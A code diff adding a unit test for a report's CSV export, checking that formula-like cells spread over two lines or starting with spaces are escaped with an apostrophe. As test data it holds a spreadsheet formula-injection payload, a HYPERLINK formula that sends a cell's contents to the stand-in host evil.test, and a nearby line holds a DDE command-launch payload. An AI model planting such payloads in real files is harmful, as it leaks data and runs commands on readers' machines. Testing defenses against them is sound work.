@@ -175,6 +175,21 @@ describe('the report file', () => {
     expect([row[2], row[11], row[15]]).toEqual(["'@SUM(1+1)", "'+cmd|/C calc!A0", '-2000']);
   });
 
+  it('keeps a formula from running when it runs over two lines or opens with spaces', () => {
+    const twoLines = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx';
+    const hostile: ReportView = {
+      ...report,
+      teams: [
+        { ...report.teams[0]!, members: twoLines },
+        { ...report.teams[1]!, members: '  =1+1' },
+      ],
+    };
+    const [, teams] = reportCsv(hostile, { session: 'Week', hotel: 'Hotel' }).split('\r\n\r\n');
+    const rows = Papa.parse<string[]>(teams!.trim()).data;
+    expect(rows[1]![2]).toBe(`'${twoLines}`);
+    expect(rows[2]![2]).toBe("'  =1+1");
+  });
+
   it('names the file after the session and the day', () => {
     expect(reportFileName('Pune Batch #3 (Nov)', new Date('2026-11-23T12:00:00Z'))).toBe('front-desk-rm-pune-batch-3-nov-2026-11-23.csv');
     expect(reportFileName('***', new Date('2026-11-23T12:00:00Z'))).toBe('front-desk-rm-session-2026-11-23.csv');
